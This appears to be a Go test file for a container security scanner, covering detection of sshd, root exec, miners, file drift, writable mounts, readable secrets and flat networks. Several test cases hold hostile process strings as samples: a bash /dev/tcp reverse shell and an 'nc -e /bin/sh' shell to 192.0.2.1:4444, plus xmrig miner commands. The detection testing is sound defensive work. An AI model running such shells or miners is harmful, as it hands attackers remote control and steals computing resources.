package container

import (
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/api/types/container"
	"github.com/moby/moby/api/types/mount"

	"plimsoll/checks"
)

// doing lets processes be seen in c, which runs as user 1000: the first one of
// its own, and others as "pid parent uid command".
func process(pid, parent, uid int, command string) Process {
	return Process{PID: pid, Parent: parent, UID: uid, Command: command}
}

func doing(c *Container, others ...Process) {
	c.Inspect.State.Pid = 10
	c.Engine = &Engine{}
	c.Processes = append([]Process{process(10, 1, 1000, "/app/serve --port 80")}, others...)
}

func wrote(c *Container, paths ...string) {
	for _, p := range paths {
		kind := container.ChangeModify
		if rest, ok := strings.CutPrefix(p, "+"); ok {
			kind, p = container.ChangeAdd, rest
		} else if rest, ok := strings.CutPrefix(p, "-"); ok {
			kind, p = container.ChangeDelete, rest
		}
		c.Changed = append(c.Changed, container.FilesystemChange{Kind: kind, Path: p})
	}
}

// lies puts something behind the mount at target, which changed so long before
// now.
func lies(c *Container, target string, mode uint32, ago time.Duration) {
	if c.Places == nil {
		c.Places = map[string]Place{}
	}
	c.Places[target] = Place{Mode: fs.FileMode(mode), Newest: noon.Add(-ago), Entries: 3}
	c.Inspect.State.StartedAt = noon.Add(-72 * time.Hour).Format(time.RFC3339Nano)
}

const digest1 = "sha256:1111111111111111111111111111111111111111111111111111111111111111"

var seenCases = []testCase{
	{"processes", func(c *Container) { doing(c, process(11, 10, 1000, "worker")) }, nil},
	{"sshd", func(c *Container) { doing(c, process(11, 10, 1000, "sshd: /usr/sbin/sshd -D [listener]")) }, []string{"container-sshd-running"}},
	{"dropbear", func(c *Container) { doing(c, process(11, 10, 1000, "/usr/sbin/dropbear -F")) }, []string{"container-sshd-running"}},
	{"ssh client", func(c *Container) { doing(c, process(11, 10, 1000, "ssh-agent -a /sshd")) }, nil},
	{"root by exec", func(c *Container) { doing(c, process(20, 5, 0, "-sh"), process(21, 20, 0, "vi")) }, []string{"container-exec-root"}},
	{"exec", func(c *Container) { doing(c, process(20, 5, 1000, "sh")) }, nil},
	{"exec as somebody else", func(c *Container) { doing(c, process(20, 5, 33, "sh")) }, nil},
	{"root in a container of root", func(c *Container) {
		c.Settings.Config.User = "0"
		doing(c, process(20, 5, 0, "sh"))
	}, []string{"container-runs-as-root"}},
	{"root by setuid", func(c *Container) { doing(c, process(11, 10, 0, "/usr/bin/passwd")) }, []string{"container-process-user-mismatch"}},
	{"another user", func(c *Container) { doing(c, process(11, 10, 33, "worker")) }, []string{"container-process-user-mismatch"}},
	{"numbers of a remapping engine", func(c *Container) {
		doing(c, process(11, 10, 100033, "worker"))
		c.Engine.UserNamespaces = true
	}, nil},
	{"numbers of a rootless engine", func(c *Container) { doing(c, process(11, 10, 0, "worker")); c.Engine.Rootless = true }, nil},
	{"stopped since", func(c *Container) {
		doing(c, process(11, 10, 0, "sshd"))
		c.Inspect.State = &container.State{Status: container.StateExited}
	}, nil},
	{"miner", func(c *Container) { doing(c, process(11, 10, 1000, "/tmp/xmrig -o pool")) }, []string{"container-unexpected-process xmrig"}},
	{"miner by its pool", func(c *Container) { doing(c, process(11, 10, 1000, "./httpd -o stratum+tcp://pool.example:3333")) }, []string{"container-unexpected-process httpd"}},
	{"shell for somebody else", func(c *Container) {
		doing(c, process(11, 10, 1000, "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), process(12, 10, 1000, "nc -e /bin/sh 192.0.2.1 4444"))
	}, []string{"container-unexpected-process bash", "container-unexpected-process nc"}},
	{"harmless words", func(c *Container) {
		doing(c, process(11, 10, 1000, "nc -l 80"), process(12, 10, 1000, "python minerdoc.py"))
	}, nil},
	{"program that came later", func(c *Container) { doing(c, process(11, 10, 1000, "/tmp/x -d")); wrote(c, "+/tmp/x") }, []string{"container-unexpected-process x"}},

	{"programs changed", func(c *Container) {
		wrote(c, "/usr", "/usr/bin", "+/usr/bin/curl", "/bin/sh", "+/usr/lib/x86_64-linux-gnu/libx.so.1")
	}, []string{"container-file-drift programs"}},
	{"rights changed", func(c *Container) { wrote(c, "/etc", "/etc/shadow", "+/etc/cron.d/x") }, []string{"container-file-drift files"}},
	{"program removed", func(c *Container) { wrote(c, "-/usr/bin/curl") }, nil},
	{"usual traces", func(c *Container) {
		wrote(c, "/etc/hosts", "/etc/passwd", "+/usr/lib/python3/dist-packages/__pycache__/a.cpython-312.pyc", "+/usr/local/lib/python3/x.py", "+/run/a.pid", "/usr/bin", "+/usr/share/bin/x")
	}, nil},
	{"programs in a mount", func(c *Container) { bind(c, "/srv/bin:/usr/local/bin"); wrote(c, "+/usr/local/bin/x") }, nil},

	{"writable for nothing", func(c *Container) { bind(c, "/srv/conf:/conf"); lies(c, "/conf", 0o755, 100*day) }, []string{"container-mount-writable-needlessly /conf"}},
	{"volume for nothing", func(c *Container) { bind(c, "conf:/conf:z"); lies(c, "/conf", 0o755, 100*day) }, []string{"container-mount-writable-needlessly /conf"}},
	{"written", func(c *Container) { bind(c, "/srv/data:/data"); lies(c, "/data", 0o755, time.Hour) }, nil},
	{"read-only already", func(c *Container) { bind(c, "/srv/conf:/conf:ro"); lies(c, "/conf", 0o755, 100*day) }, nil},
	{"more than was looked at", func(c *Container) {
		bind(c, "/srv/data:/data")
		lies(c, "/data", 0o755, 100*day)
		p := c.Places["/data"]
		p.Partial = true
		c.Places["/data"] = p
	}, nil},
	{"just started", func(c *Container) {
		bind(c, "/srv/conf:/conf")
		lies(c, "/conf", 0o755, 100*day)
		c.Inspect.State.StartedAt = noon.Add(-time.Hour).Format(time.RFC3339Nano)
	}, nil},

	{"readable secret", func(c *Container) {
		bind(c, "/srv/db:/run/secrets/db:ro")
		lies(c, "/run/secrets/db", 0o644, time.Hour)
	}, []string{"container-secret-file-readable /run/secrets/db"}},
	{"readable key", func(c *Container) { bind(c, "/srv/tls/server.key:/tls/x:ro"); lies(c, "/tls/x", 0o604, time.Hour) }, []string{"container-secret-file-readable /tls/x"}},
	{"private key", func(c *Container) { bind(c, "/srv/tls/server.key:/tls/x:ro"); lies(c, "/tls/x", 0o640, time.Hour) }, nil},
	{"certificate", func(c *Container) {
		bind(c, "/srv/tls/ca.pem:/tls/ca.pem:ro")
		lies(c, "/tls/ca.pem", 0o644, time.Hour)
	}, nil},
	{"readable settings", func(c *Container) { bind(c, "/srv/app.conf:/app.conf:ro"); lies(c, "/app.conf", 0o644, time.Hour) }, nil},

	{"newer in the registry", func(c *Container) {
		c.Image.RepoDigests, c.Served = []string{"shop@" + digest1}, "sha256:2222"
	}, []string{"container-image-outdated"}},
	{"same in the registry", func(c *Container) { c.Image.RepoDigests, c.Served = []string{"a@sha256:0", "shop@" + digest1}, digest1 }, nil},
	{"registry not asked", func(c *Container) { c.Image.RepoDigests = []string{"shop@" + digest1} }, nil},
	{"made here", func(c *Container) { c.Served = digest1 }, nil},
}

var besideCases = []testCase{
	{"volume of two", func(c *Container) {
		bind(c, "data:/data", "logs:/logs:ro", ":/x")
		c.Around = &Around{Writers: map[string][]string{"data": {"worker"}, "logs": {"worker"}, "": {"worker"}}}
	}, []string{"container-volume-shared /data"}},
	{"database that can call out", func(c *Container) { database(c); c.Around = &Around{Networks: map[string]Network{"shop": {}}} }, []string{"container-egress-open"}},
	{"database that cannot", func(c *Container) {
		database(c)
		c.Around = &Around{Networks: map[string]Network{"shop": {Fence: Fence{Internal: true}}}}
	}, nil},
	{"program that can", func(c *Container) { c.Around = &Around{Networks: map[string]Network{"shop": {}}} }, nil},
	{"flat, but without traffic", func(c *Container) {
		database(c)
		c.Around = &Around{Project: 2, Networks: map[string]Network{"shop": {Fence: Fence{Internal: true, Apart: true}, Project: 2, Entries: []string{"web"}}}}
	}, nil},
	{"flat", func(c *Container) {
		database(c)
		c.Around = &Around{Project: 2, Networks: map[string]Network{"shop": {Fence: Fence{Internal: true}, Project: 2, Entries: []string{"web"}}}}
	}, []string{"container-network-flat"}},
	{"flat, but small", func(c *Container) {
		database(c)
		c.Around = &Around{Project: 1, Networks: map[string]Network{"shop": {Fence: Fence{Internal: true}, Project: 1, Entries: []string{"web"}}}}
	}, nil},
	{"divided", func(c *Container) {
		database(c)
		c.Around = &Around{Project: 2, Networks: map[string]Network{"shop": {Fence: Fence{Internal: true}, Project: 1, Entries: []string{"web"}}}}
	}, nil},
	{"flat without an entry", func(c *Container) {
		database(c)
		c.Around = &Around{Project: 2, Networks: map[string]Network{"shop": {Fence: Fence{Internal: true}, Project: 2}}}
	}, nil},
	{"two zones", func(c *Container) {
		c.Around = &Around{Networks: map[string]Network{"shop": {}, "back": {Fence: Fence{Internal: true}}}}
	}, []string{"container-bridges-zones"}},
	{"two open ones", func(c *Container) { c.Around = &Around{Networks: map[string]Network{"shop": {}, "front": {}}} }, nil},
}

func database(c *Container) { c.Settings.Image, c.Settings.Host.BlkioWeight = "postgres:17", 300 }

func TestSeenSeverities(t *testing.T) {
	for _, test := range []struct {
		name   string
		change func(*Container)
		want   checks.Severity
	}{
		{"root by setuid", func(c *Container) { doing(c, process(11, 10, 0, "x")) }, checks.High},
		{"another user", func(c *Container) { doing(c, process(11, 10, 33, "x")) }, checks.Medium},
		{"miner", func(c *Container) { doing(c, process(11, 10, 1000, "xmrig")) }, checks.Critical},
		{"program that came later", func(c *Container) { doing(c, process(11, 10, 1000, "/x")); wrote(c, "+/x") }, checks.High},
		{"root that was seen to leave", func(c *Container) { c.Settings.Config.User = "0"; doing(c) }, checks.Low},
		{"root that should leave and did not", func(c *Container) {
			c.Settings.Config.User, c.Settings.Config.Env = "0", []string{gosu}
			doing(c)
			c.Processes[0].UID = 0
		}, checks.High},
		{"root entered what had left it", func(c *Container) { c.Settings.Config.User = "0"; doing(c, process(20, 5, 0, "sh")) }, checks.Low},
	} {
		c := sound()
		test.change(c)
		if f := judge(t, c).Findings; len(f) != 1 || f[0].Severity != test.want {
			t.Errorf("%s: %v", test.name, f)
		}
	}
}

func TestProcesses(t *testing.T) {
	got := Processes(container.TopResponse{Processes: [][]string{{"12", "1", "0", "nginx: master"}, {"13", "12", "101", "nginx: worker"}}})
	if len(got) != 2 || got[1] != (process(13, 12, 101, "nginx: worker")) {
		t.Errorf("%+v", got)
	}
	for _, odd := range [][][]string{nil, {{"1"}}, {{"a", "b", "c", "d"}}, {{"1", "2", "root", "d"}}} {
		if got := Processes(container.TopResponse{Processes: odd}); got != nil {
			t.Errorf("%v gives %v", odd, got)
		}
	}
}

func TestWriteProtect(t *testing.T) {
	c := sound()
	c.Settings.Host.Binds = []string{"/a:/a", "/b:/b:rw,z", "/c:/c:rslave"}
	c.Settings.Host.Mounts = []mount.Mount{{Type: mount.TypeVolume, Source: "d", Target: "/d"}}
	for _, target := range []string{"/a", "/b", "/c", "/d", "/a"} {
		writeProtect(c.Settings.Host, target)
	}
	if got := strings.Join(c.Settings.Host.Binds, " "); got != "/a:/a:ro /b:/b:ro,z /c:/c:ro,rslave" || !c.Settings.Host.Mounts[0].ReadOnly {
		t.Errorf("%s, %v", got, c.Settings.Host.Mounts)
	}
}

func TestNeighbours(t *testing.T) {
	n := NewNeighbours([]Neighbour{
		{Name: "web", Project: "p", Networks: []string{"front", "back"}, Entry: true, Writes: []string{"data"}},
		{Name: "db", Project: "p", Networks: []string{"back"}, Writes: []string{"data", "own"}},
		{Name: "other", Networks: []string{"front", "id"}},
	}, map[string]Fence{"front": {}, "back": {Internal: true}})
	db := n.Of("db")
	if db.Project != 1 || len(db.Writers) != 1 || db.Writers["data"][0] != "web" {
		t.Errorf("%+v", db)
	}
	if back := db.Networks["back"]; !back.Internal || back.Project != 1 || len(back.Entries) != 1 {
		t.Errorf("%+v", back)
	}
	if web := n.Of("web"); len(web.Networks["front"].Entries) != 0 {
		t.Errorf("web is an entry beside itself: %+v", web)
	}
	if other := n.Of("other"); len(other.Networks) != 1 || other.Project != 0 {
		t.Errorf("%+v", other)
	}
	if n.Of("nobody") != nil || NewNeighbours([]Neighbour{{Name: "a"}}, nil).Of("a") != nil {
		t.Error("knows what it cannot know")
	}
}
